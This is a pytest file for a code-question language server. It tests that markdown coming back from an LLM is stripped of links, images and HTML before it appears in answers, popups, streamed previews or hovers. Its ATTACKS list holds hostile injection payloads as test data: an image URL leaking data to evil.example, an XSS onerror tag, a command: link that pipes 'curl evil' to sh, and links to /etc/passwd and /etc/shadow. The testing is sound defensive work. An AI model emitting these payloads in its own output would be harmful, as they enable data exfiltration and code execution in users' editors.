"""Issue 15 (Medium) and issue 14: model output is sanitised to a whitelist, prose kept.

Unit level: each injection string through `sanitize_markdown` (a real CommonMark parse),
parsed again to prove nothing active is left. End to end: the injection strings come back
from the loopback provider through the real `openai` SDK, and the answer, the
`window/showMessageRequest` popup, the streamed previews and the hover explanation are
checked for links, images and HTML.
"""

from __future__ import annotations

import asyncio
import re
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from codeqa_lsp.answering.sanitize import escape_preview, sanitize_markdown
from tests.fakes.llm_server import FakeLLMServer, Reply
from tests.server.rawclient import RawClient
from tests.server.workspace import make_workspace

GUARD = 120.0  # seconds; only stops a hung test

ISSUE_14 = "`apply_discount` [1]: it normalises the code with `str.upper` before looking it up."
ATTACKS = [
    "[a [b](file:///x)](command:y)",
    "See ![](https://evil.example/p.png?leak=c2VjcmV0) for details.",
    "Click <img src=x onerror=alert(1)> here.",
    (
        '<a href="command:workbench.action.terminal.sendSequence'
        '?%7B%22text%22%3A%22curl%20evil%7Csh%22%7D">run</a>'
    ),
    "[open](command:workbench.action.files.openFile) and [home](https://evil.example/?q=1)",
    "<command:editor.action.foo> and <https://evil.example>",
    "[1](file:///etc/passwd) and [2]: file:///etc/shadow",
    "<details><summary>x</summary><script>alert(1)</script></details>",
    "[x][ref]\n\n[ref]: command:evil",
    "[1]\n(file:///etc/passwd)",
]
_RENDER = MarkdownIt("commonmark", {"html": True})
_RENDER.validateLink = lambda url: True  # type: ignore[method-assign]  # like an editor: any scheme


def active_markup(markdown: str) -> list[str]:
    """Links, images and HTML a CommonMark client would render from `markdown`."""
    found: list[str] = []
    for token in _RENDER.parse(markdown):
        for t in [token, *(token.children or [])]:
            if t.type in ("link_open", "image", "html_inline", "html_block"):
                found.append(f"{t.type}:{t.attrs or t.content}")
    return found


def words(text: str) -> list[str]:
    return re.findall(r"[A-Za-z]{3,}", text)


def test_issue_14_prose_after_a_code_span_is_kept() -> None:
    out = sanitize_markdown(ISSUE_14)
    assert out == ISSUE_14
    assert "normalises the code with" in out and "before looking it up." in out


@pytest.mark.parametrize("attack", ATTACKS)
def test_injection_strings_render_nothing_active(attack: str) -> None:
    out = sanitize_markdown(attack)
    assert active_markup(out) == [], out
    assert "command:y" not in active_markup(out)


def test_nested_link_is_not_reassembled() -> None:
    out = sanitize_markdown("[a [b](file:///x)](command:y)")
    assert active_markup(out) == [] and "file:///x" not in out


def test_labels_and_prose_survive() -> None:
    text = (
        "Intro with *emphasis*, **strong**, `code` and [the docs](https://example.com) "
        "and ![a diagram](https://x/y.png).\n\n# Heading\n\n- item one\n- item two\n\n"
        "```python\nprint('<b>hi</b>')\n```\n\n<b>bold?</b> trailing words"
    )
    out = sanitize_markdown(text)
    for word in words(
        "Intro emphasis strong code the docs diagram Heading item one two bold trailing words"
    ):
        assert word in out, word
    assert "print('<b>hi</b>')" in out  # code is code: kept verbatim
    assert (
        "*emphasis*" in out and "**strong**" in out and "# Heading" in out and "- item one" in out
    )
    assert active_markup(out) == []


def test_markers_stay_markers() -> None:
    assert (
        sanitize_markdown("It reads the file [1] and retries [2, 3].")
        == "It reads the file [1] and retries [2, 3]."
    )


def test_streamed_previews_are_inert_across_delta_boundaries() -> None:
    deltas = ["see [x]", "(command:evil) and <img src=", "x onerror=1> \\", "[y](z)"]
    previous = ""
    out = ""
    for delta in deltas:
        out += escape_preview(delta, previous)
        previous = delta[-1]
    assert active_markup(out) == [], out


async def test_injection_never_reaches_answer_popup_or_hover(
    tmp_path: Path, fake_llm: FakeLLMServer
) -> None:
    root = make_workspace(tmp_path / "ws")
    hostile = " ".join(ATTACKS) + " Settings come from load_settings [1]."
    fake_llm.default_reply = Reply(hostile, deltas=7)
    client = await RawClient.start()
    popups: list[dict[str, Any]] = []

    def on_request(message: dict[str, Any]) -> Any:
        if message["method"] == "window/showMessageRequest":
            popups.append(message["params"])
        return None

    client.on_server_request = on_request
    try:
        await asyncio.wait_for(
            client.initialize(
                root,
                {
                    "embedder": "hash",
                    "indexDir": str(tmp_path / "index"),
                    "provider": "openai",
                    "minScore": -1.0,
                    "baseUrl": fake_llm.openai_url,
                    "apiKey": "sk-test-sanitize-000000000",
                    "model": "gpt-test",
                    "hoverExplanations": True,
                },
            ),
            GUARD,
        )
        await asyncio.wait_for(client.wait_for(lambda: bool(client.progress("end"))), GUARD)
        asked = (
            await asyncio.wait_for(
                client.command("codeqa.ask", {"question": "how are settings loaded?"}), GUARD
            )
        )["result"]
        config = root / "app" / "config.py"
        await asyncio.wait_for(
            client.command(
                "codeqa.showAnswer",
                {"uri": config.as_uri(), "position": {"line": 8, "character": 0}},
            ),
            GUARD,
        )
        await asyncio.wait_for(client.wait_for(lambda: bool(popups)), GUARD)
        session = root / "app" / "session.py"
        hover_params = {
            "textDocument": {"uri": session.as_uri()},
            "position": {"line": 9, "character": 26},
        }
        hover_text = ""
        while "Explanation" not in hover_text:
            hover = await asyncio.wait_for(
                client.request("textDocument/hover", hover_params), GUARD
            )
            hover_text = hover["result"]["contents"]["value"]
            await asyncio.sleep(0.05)
    finally:
        assert await client.close() == 0

    assert asked["provider"] == "openai", asked
    answer = asked["answer"]
    links = [a for a in active_markup(answer) if a.startswith("link_open")]
    assert links and all(
        "file://" in link and "#L" in link and "/etc/" not in link for link in links
    ), links
    assert [a for a in active_markup(answer) if not a.startswith("link_open")] == []
    assert "Settings come from load_settings" in answer
    for popup in popups:
        assert "onerror" not in popup["message"] or "\\<img" in popup["message"]
        assert active_markup(popup["message"]) == []
    deltas = "".join(
        n["params"]["text"] for n in client.notifications if n["method"] == "codeqa/answerDelta"
    )
    assert deltas and active_markup(deltas) == []
    hover_links = [a for a in active_markup(hover_text) if a.startswith("link_open")]
    assert all("file://" in link for link in hover_links)
    assert [a for a in active_markup(hover_text) if not a.startswith("link_open")] == []
    assert "command:" not in "".join(hover_links)
